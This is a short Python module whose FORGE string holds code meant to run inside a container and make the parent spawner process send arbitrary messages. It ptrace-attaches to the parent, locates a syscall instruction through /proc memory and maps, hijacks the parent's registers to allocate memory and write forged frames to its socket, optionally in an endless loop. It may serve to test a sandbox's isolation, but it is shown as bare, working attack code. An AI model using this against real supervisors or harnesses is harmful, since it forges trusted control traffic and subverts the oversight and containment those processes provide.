"""Code for a container that has the spawner beside it say what it likes, by tracing it.

The spawner is the parent of every program. It runs as the same user, so a program may stop it and
have it write to its own connection; `frames` is what it writes, `count` how often (0: for ever).
"""

FORGE = """
import ctypes, os, re, struct

libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
ATTACH, GETREGS, SETREGS, STEP = 16, 12, 13, 9
NAMES = ("r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi orig_rax rip cs eflags rsp ss"
         " fs_base gs_base ds es fs gs").split()
spawner = os.getppid()
regs = (ctypes.c_ulonglong * len(NAMES))()

def traced(*call):
    if libc.ptrace(call[0], spawner, *call[1:]) < 0:
        raise OSError(ctypes.get_errno(), "ptrace")

def system_call(number, *arguments):
    values = dict(zip(("rdi", "rsi", "rdx", "r10", "r8", "r9"), arguments), rax=number,
                  rip=instruction, orig_rax=(1 << 64) - 1)
    for name, value in values.items():
        regs[NAMES.index(name)] = value & ((1 << 64) - 1)
    traced(SETREGS, None, ctypes.addressof(regs))
    traced(STEP, None, None)
    os.waitpid(spawner, 0x40000000)
    traced(GETREGS, None, ctypes.addressof(regs))
    return regs[NAMES.index("rax")]

traced(ATTACH, None, None)
os.waitpid(spawner, 0x40000000)
traced(GETREGS, None, ctypes.addressof(regs))
memory = open(f"/proc/{spawner}/mem", "r+b", buffering=0)
for line in open(f"/proc/{spawner}/maps"):
    start, end, rights = re.match("(\\\\w+)-(\\\\w+) (\\\\S+)", line).groups()
    if "x" in rights and "[" not in line:
        memory.seek(int(start, 16))
        found = memory.read(int(end, 16) - int(start, 16)).find(bytes((0x0F, 0x05)))
        if found >= 0:
            instruction = int(start, 16) + found
            break
connection = next(int(n) for n in os.listdir(f"/proc/{spawner}/fd")
                  if os.readlink(f"/proc/{spawner}/fd/{n}").startswith("socket:"))

def forge(frames, count=1):
    room = system_call(9, 0, len(frames), 3, 0x22, (1 << 64) - 1, 0)
    memory.seek(room)
    memory.write(frames)
    while True:
        sent = 0
        while sent < len(frames):
            sent += system_call(1, connection, room + sent, len(frames) - sent)
        count -= 1
        if not count:
            return

def frame(content):
    return struct.pack("!I", len(content)) + content
"""
